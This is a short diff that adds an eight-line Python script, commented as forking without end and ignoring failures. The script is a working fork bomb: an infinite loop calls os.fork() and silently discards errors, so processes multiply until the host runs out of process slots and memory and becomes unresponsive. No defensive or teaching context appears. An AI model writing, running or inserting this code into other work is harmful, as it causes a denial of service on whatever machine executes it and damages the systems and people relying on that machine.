@@ -1,0 +1,8 @@
+# Forks without end, ignoring failures.
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
